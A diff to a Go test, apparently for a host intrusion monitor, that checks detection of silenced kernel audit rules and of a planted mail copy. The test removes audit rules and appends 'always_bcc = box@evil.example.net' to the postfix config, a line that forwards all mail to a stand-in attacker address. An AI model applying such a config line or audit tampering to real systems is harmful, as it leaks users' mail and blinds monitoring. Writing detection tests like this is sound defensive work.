@@ -518,7 +518,8 @@ func TestAuditIsSilenced(t *testing.T) {
 	w := h.watch()
 	defer w.stop()
 	start := time.Now()
-	if n, err := kaudit.RemoveLeftovers(agent.AuditKey, false); err != nil || n == 0 {
+	n, err := kaudit.RemoveLeftovers(agent.AuditKey, false)
+	if err != nil || n == 0 {
 		t.Fatalf("%d rules removed, %v", n, err)
 	}
 	f := w.find("audit that was silenced", isNew("watch-silenced"))
@@ -526,7 +527,7 @@ func TestAuditIsSilenced(t *testing.T) {
 		t.Errorf("actor %+v", f.Actor)
 	}
 	t.Logf("told after %v: %s", f.at.Sub(start), f.Explain)
-	wait(t, "the rules to be back", func() bool { return len(kaudit.Leftovers(agent.AuditKey)) > 0 })
+	wait(t, "the rules to be back", func() bool { return len(kaudit.Leftovers(agent.AuditKey)) >= n })
 	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
 	f = w.find("the copy", isNew("mail-copy"))
 	if f.Actor.Process.Grade != waxseal.Proven {
